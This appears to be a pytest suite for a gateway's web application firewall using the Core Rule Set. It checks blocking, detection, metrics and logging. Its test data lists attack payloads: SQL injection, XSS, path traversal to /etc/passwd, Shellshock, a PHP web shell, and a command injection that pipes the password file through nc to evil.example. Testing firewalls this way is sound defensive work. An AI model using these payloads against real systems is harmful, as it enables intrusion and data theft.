"""The WAF with the Core Rule Set: attacks wherever an argument can hide, in block, detect and off; verdicts one a request."""
import json
from urllib.parse import quote, urlencode

import pytest

from harness.client import chunked, request_bytes
from harness.gateway import Gateway, tenant

# (name, payload, a rule that must be among those that matched)
ATTACKS = [
    ("sqli", "1' OR '1'='1' -- ", 942100),
    ("sqli-union", "1 UNION SELECT username, password FROM users", 942190),
    ("xss", "<script>alert(document.cookie)</script>", 941100),
    ("xss-handler", "<img src=x onerror=alert(1)>", 941100),
    ("lfi", "../../../../etc/passwd", 930120),
    ("rce", ";cat /etc/passwd|nc evil.example 4444", 932160),
    ("rce-shellshock", "() { :;}; /bin/bash -c 'id'", 932171),
    ("php", "<?php system($_GET['x']); ?>", 933100),
]
PAYLOADS = pytest.mark.parametrize("payload, rule", [(payload, rule) for _, payload, rule in ATTACKS], ids=[name for name, _, _ in ATTACKS])

# What people do send. None of it may be refused at paranoia 1. (PUT, PATCH and DELETE are: CRS's own default is to allow
# GET, HEAD, POST and OPTIONS, until the platform's crs-setup.conf says more.)
BENIGN = [
    ("GET", "/", [], None),
    ("GET", "/search?q=how+to+select+a+union+representative&page=2", [], None),
    ("GET", "/item/42?ref=mail&utm_source=newsletter", [("Cookie", "session=0123456789abcdef; theme=dark")], None),
    ("GET", "/search?q=O%27Brien", [], None),
    ("POST", "/form", [("Content-Type", "application/x-www-form-urlencoded")], "name=Zo%C3%AB&comment=Tom+%26+Jerry+cost+5+%25+more"),
    ("POST", "/api", [("Content-Type", "application/json")], json.dumps({"name": "Zoë", "tags": ["a", "b"], "nested": {"n": 1.5, "ok": True}})),
    ("POST", "/api", [("Content-Type", "application/json; charset=utf-8")], "[]"),
    ("OPTIONS", "/api/1", [("Origin", "https://shop.test"), ("Access-Control-Request-Method", "POST")], None),
    ("HEAD", "/", [], None),
]


@pytest.fixture(scope="module")
def gateway(upstream):
    tenants = {mode: tenant(mode, upstream, waf={"mode": mode}) for mode in ("block", "detect", "off")}
    tenants["falsy"] = tenant("falsy", upstream, waf={"mode": False})
    with Gateway(tenants, {"workers": 1}) as running:
        yield running


def verdicts(gateway, name):
    return {labels["verdict"]: gateway.metric("gatehouse_waf_requests_total", tenant=name, verdict=labels["verdict"])
            for labels in gateway.metrics().labels("gatehouse_waf_requests_total") if labels["tenant"] == name}


def expect_verdict(gateway, name, before, verdict):
    """Exactly one more of this verdict, and none of another."""
    gateway.wait_metric(before.get(verdict, 0) + 1, "gatehouse_waf_requests_total", tenant=name, verdict=verdict)
    after = verdicts(gateway, name)
    assert {key: value for key, value in after.items() if key != verdict} == {key: before.get(key, 0) for key in after if key != verdict}


def in_query(payload):
    return "GET", "/x?id=" + quote(payload), [], None


def in_form(payload):
    return "POST", "/x", [("Content-Type", "application/x-www-form-urlencoded")], urlencode({"comment": payload, "other": "1"})


def in_json(payload):
    return "POST", "/x", [("Content-Type", "application/json")], json.dumps({"a": {"b": [1, {"c": payload}]}})


def in_multipart(payload):
    body = f'--limit\r\nContent-Disposition: form-data; name="comment"\r\n\r\n{payload}\r\n--limit--\r\n'
    return "POST", "/x", [("Content-Type", "multipart/form-data; boundary=limit")], body


def in_cookie(payload):
    return "GET", "/x", [("Cookie", "choice=" + quote(payload))], None


PLACES = pytest.mark.parametrize("place", [in_query, in_form, in_json, in_multipart, in_cookie])


@PAYLOADS
@PLACES
def test_block(gateway, upstream, place, payload, rule):
    if place is in_cookie and rule == 932171:
        rule = 932160  # the rule for its prologue looks at arguments only, that for its command at cookies too
    method, target, headers, body = place(payload)
    upstream.forget()
    before = verdicts(gateway, "block")
    response = gateway.request(target, method=method, host="block.test", headers=headers, body=body)
    assert response.status == 403
    assert upstream.requests == [], "nothing of it may reach the upstream"
    expect_verdict(gateway, "block", before, "blocked")
    event = gateway.waf_event(request_id=response.header("x-request-id"))
    assert event["verdict"] == "blocked" and event["score"] >= 5
    assert rule in [match["id"] for match in event["rules"]]


@pytest.mark.parametrize("name, value, rule", [
    ("User-Agent", "<script>alert(1)</script>", 941100), ("User-Agent", "() { :;}; /bin/bash -c id", 932170), ("X-Any", "() { :;}; echo", 932170),
    ("User-Agent", "sqlmap/1.7", 913100), ("X-Any", "../../../etc/passwd", 930110),
])
def test_block_in_header(gateway, upstream, name, value, rule):
    upstream.forget()
    response = gateway.request(host="block.test", headers=[(name, value)])
    assert response.status == 403 and upstream.requests == []
    assert rule in [match["id"] for match in gateway.waf_event(request_id=response.header("x-request-id"))["rules"]]


@pytest.mark.parametrize("cookie", ["=1' or '1'='1", "a=b; =1' or '1'='1' -- ", "a=\"1\\047 or \\0471\\047=\\0471\""])
def test_cookies_as_servers_read_them(gateway, upstream, cookie):
    """Without a name, or in quotes: what a server may read there is inspected."""
    upstream.forget()
    assert gateway.request("/", host="block.test", headers=[("Cookie", cookie)]).status == 403
    assert upstream.requests == []


@pytest.mark.parametrize("target", ["/x?file=..%2f..%2f..%2fetc%2fpasswd", "/x?file=....//....//etc/passwd", "/x/..%2f..%2f..%2fetc/passwd",
                                    "/x?a=/etc/shadow", "/%2e%2e%2f%2e%2e%2fetc/passwd"])
def test_path_traversal(gateway, upstream, target):
    """Judged on the target as received, not on what normalisation has made of it."""
    upstream.forget()
    assert gateway.request(target, host="block.test").status in (400, 403)
    assert upstream.requests == []


@PAYLOADS
@pytest.mark.parametrize("place", [in_query, in_form, in_json])
def test_detect(gateway, upstream, place, payload, rule):
    method, target, headers, body = place(payload)
    upstream.forget()
    before = verdicts(gateway, "detect")
    assert gateway.request(target, method=method, host="detect.test", headers=headers, body=body).status == 200
    assert upstream.requests[0].body.decode() == (body or "")
    expect_verdict(gateway, "detect", before, "flagged")
    event = gateway.waf_event(request_id=upstream.requests[0].header("x-request-id"))
    assert event["verdict"] == "flagged" and rule in [match["id"] for match in event["rules"]]


@pytest.mark.parametrize("name", ["off", "falsy"])
def test_off(gateway, upstream, name):
    upstream.forget()
    for _, payload, _ in ATTACKS:
        assert gateway.request("/x?id=" + quote(payload), host=f"{name}.test").status == 200
    assert len(upstream.requests) == len(ATTACKS)
    assert gateway.metric("gatehouse_waf_requests_total", tenant=name) == 0
    assert gateway.waf_events(tenant=name) == []


@pytest.mark.parametrize("method, target, headers, body", BENIGN, ids=[f"{number}" for number in range(len(BENIGN))])
def test_what_people_send_passes(gateway, upstream, method, target, headers, body):
    upstream.forget()
    before = verdicts(gateway, "block")
    usual = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "text/html,application/json;q=0.9,*/*;q=0.8"), ("Accept-Language", "de,en;q=0.5")]
    assert gateway.request(target, method=method, host="block.test", headers=usual + headers, body=body).status == 200
    assert upstream.requests[0].body == (body or "").encode()
    gateway.wait_metric(sum(before.values()) + 1, "gatehouse_waf_requests_total", tenant="block")
    after = verdicts(gateway, "block")
    assert after.get("blocked", 0) == before.get("blocked", 0) and after.get("error", 0) == before.get("error", 0)
    assert gateway.waf_events(request_id=upstream.requests[0].header("x-request-id")) == []


def test_what_is_answered_before_the_waf_has_a_verdict_too(upstream):
    """Not found, access list, rate limit, redirect: no engine was run."""
    rules = {"waf": {"mode": "block"}, "rate_limits": {"one": {"key": "tenant", "rate": "1/h", "burst": 1}}, "access": {"deny": ["127.0.0.9"]},
             "hosts": [{"name": "shop.test", "tls": "off"}, {"name": "secure.test", "tls": {"self_signed": True}}],
             "routes": [{"match": {"path": "/limited"}, "service": "web", "rate_limits": ["one"]}, {"match": {"path": "/open"}, "service": "web"}]}
    with Gateway({"shop": tenant(upstream=upstream, **rules)}) as gateway:
        statuses = [gateway.request("/limited").status, gateway.request("/limited").status, gateway.request("/nowhere").status,
                    gateway.request("/open", source="127.0.0.9").status, gateway.request("/open", host="secure.test").status]
        assert statuses == [200, 429, 404, 403, 308]
        gateway.wait_metric(4, "gatehouse_waf_requests_total", tenant="shop", verdict="screened")
        gateway.wait_metric(1, "gatehouse_waf_requests_total", tenant="shop", verdict="clean")
        assert gateway.metric("gatehouse_requests_total", tenant="shop") == 5
        assert gateway.metric("gatehouse_waf_duration_seconds_count", tenant="shop") == 1
        assert gateway.access_record(url__path="/nowhere")["gatehouse.waf.verdict"] == "screened"


def test_every_request_has_one_verdict(gateway):
    """Also those on one connection, pipelined, and those that find no upstream fault."""
    before = sum(verdicts(gateway, "block").values())
    with gateway.connect() as connection:
        connection.send(b"".join(request_bytes(target="/x?id=" + ("1%27%20OR%20%271%27=%271" if number % 2 else "1"), host="block.test") for number in range(20)))
        statuses = []
        for _ in range(20):
            response = connection.response()
            statuses.append(response.status)
            if response.closes:
                break
    gateway.wait_metric(before + len(statuses), "gatehouse_waf_requests_total", tenant="block")
    assert statuses[:2] == [200, 403]


@pytest.mark.parametrize("host", ["block.test", "detect.test"])
def test_a_body_in_chunks_is_judged_as_a_whole(gateway, upstream, host):
    payload = urlencode({"comment": "1' UNION SELECT username, password FROM users -- "}).encode()
    upstream.forget()
    with gateway.connect() as connection:
        headers = [("Content-Type", "application/x-www-form-urlencoded"), ("Transfer-Encoding", "chunked")]
        connection.send(request_bytes("POST", "/x", host, headers) + chunked(*[payload[at:at + 3] for at in range(0, len(payload), 3)]))
        assert connection.response().status == (403 if host == "block.test" else 200)
    if host == "block.test":
        assert upstream.requests == []
    else:
        assert upstream.requests[0].body == payload


def test_rule_matches_are_counted(gateway):
    before = gateway.metric("gatehouse_waf_rule_matches_total", tenant="block", rule="942100")
    gateway.request("/x?id=1%27%20OR%20%271%27=%271", host="block.test")
    gateway.wait_metric(before + 1, "gatehouse_waf_rule_matches_total", tenant="block", rule="942100")


def test_block_is_counted_as_a_local_reply_and_timed(gateway):
    before = gateway.metrics()
    gateway.request("/x?id=1%27%20OR%20%271%27=%271", host="block.test")
    gateway.wait_metric(before.total("gatehouse_local_replies_total", tenant="block", reason="waf") + 1, "gatehouse_local_replies_total", tenant="block", reason="waf")
    gateway.wait_metric(before.total("gatehouse_waf_duration_seconds_count", tenant="block") + 1, "gatehouse_waf_duration_seconds_count", tenant="block")


def test_record_carries_the_verdict(gateway):
    response = gateway.request("/verdict?id=1%27%20OR%20%271%27=%271", host="block.test")
    record = gateway.access_record(http__request__id=response.header("x-request-id"))
    assert record["gatehouse.waf.verdict"] == "blocked" and record["gatehouse.reason"] == "waf"
    assert record["http.response.status_code"] == 403
    gateway.request("/verdict-off", host="off.test")
    record = gateway.access_record(url__path="/verdict-off")
    assert record.get("gatehouse.waf.verdict") in (None, "-", "off")
